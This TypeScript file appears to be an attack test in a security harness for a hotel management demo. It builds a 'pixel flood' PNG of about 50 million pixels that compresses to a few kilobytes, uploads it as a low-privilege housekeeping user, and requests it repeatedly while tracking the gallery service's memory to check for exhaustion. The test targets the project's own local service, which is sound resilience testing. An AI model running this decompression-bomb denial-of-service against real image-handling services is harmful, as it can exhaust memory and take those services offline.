import { readFileSync } from 'node:fs';
import { crc32, deflateSync } from 'node:zlib';
import { addressOf, Client } from '../client.ts';
import { type Attack, Statuses, signIn, untilAnswered } from './attack.ts';

const OWNER = { email: 'staff@marisol.example', password: 'marisol-demo' };
const UPLOADS = 5;
/** Just below the most that the hotel decodes. */
const SIDE = 7_050;
const MOST_GROWTH_MB = 150;
const SAMPLE_MS = 50;

/** A picture of 50 million pixels in a few kilobytes. */
function largePicture(): Buffer<ArrayBuffer> {
  const chunk = (type: string, data: Buffer) => {
    const content = Buffer.concat([Buffer.from(type), data]);
    const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    checksum.writeUInt32BE(crc32(content));
    return Buffer.concat([length, content, checksum]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(SIDE, 0);
  header.writeUInt32BE(SIDE, 4);
  header.set([8, 0], 8); // eight bits of grey
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const pixels = deflateSync(Buffer.alloc(SIDE * (SIDE + 1)));
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]) as Buffer<ArrayBuffer>;
}

/** Signs in as a member of housekeeping, whom the owner of the demo adds. */
async function housekeeper(port: number): Promise<Client> {
  const local = new Client(port, '127.0.0.1');
  const owner = local.with(await signIn(local, OWNER));
  const email = `keeper-${Date.now()}@marisol.example`;
  const person = { firstName: 'A', lastName: 'B', whatsapp: '+34600555014', phone: '+34600555014' };
  const account = { email, password: `Jetty-${Date.now()}`, type: 'Admin', role: 'housekeeping' };
  const added = { ...person, ...account, emailVerified: true, disabled: true };
  await untilAnswered(() => owner.call('POST', '/api/users', added), [200, 201]);
  for (const client of [local, owner]) client.close();
  const client = new Client(port, addressOf(23, 0));
  return client.with(await signIn(client, account));
}

async function upload(client: Client, picture: Buffer<ArrayBuffer>): Promise<string> {
  const file = { fileName: 'x.png', contentType: 'image/png', size: picture.length };
  const { body } = await untilAnswered(() => client.call('POST', '/api/gallery/photos', file), [201]);
  const ticket = JSON.parse(body) as { url: string; fields: Record<string, string>; object: string };
  const form = new FormData();
  for (const [name, value] of Object.entries(ticket.fields)) form.append(name, value);
  form.append('file', new Blob([picture], { type: 'image/png' }));
  await fetch(ticket.url, { method: 'POST', body: form });
  return ticket.object;
}

/** The resident memory of a process and of those that it has started, such as the encoder. Only Linux reports it. */
function megabytesOf(pid: number | undefined): number {
  if (pid === undefined) return 0;
  try {
    const kB = /^VmRSS:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0;
    const children = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').split(' ').filter(Boolean);
    return children.reduce((sum, child) => sum + megabytesOf(Number(child)), Number(kB) / 1_024);
  } catch {
    return 0; // an encoder has ended since
  }
}

/** A member of housekeeping who uploads large pictures, and asks for each of them over and over. */
export const pictureFlood: Attack = async ({ port, pidOf }, signal) => {
  const client = await housekeeper(port);
  const picture = largePicture();
  const statuses = new Statuses();
  const pid = pidOf('gallery');
  const before = megabytesOf(pid);
  let most = before;
  const sampling = setInterval(() => {
    most = Math.max(most, megabytesOf(pid));
  }, SAMPLE_MS);
  const objects = await Promise.all(Array.from({ length: UPLOADS }, () => upload(client, picture)));
  const ask = async (object: string) => {
    while (!signal.aborted) statuses.add(await client.call('GET', `/api/gallery/photos/${object}`));
  };
  await Promise.all([...objects, ...objects, ...objects].map(ask));
  clearInterval(sampling);
  client.close();
  const growth = Math.round(most - before);
  return {
    broken: growth > MOST_GROWTH_MB || statuses.all.some((status) => status >= 500),
    achieved: `gallery and its encoder grew by ${growth} MB (${statuses})`,
  };
};
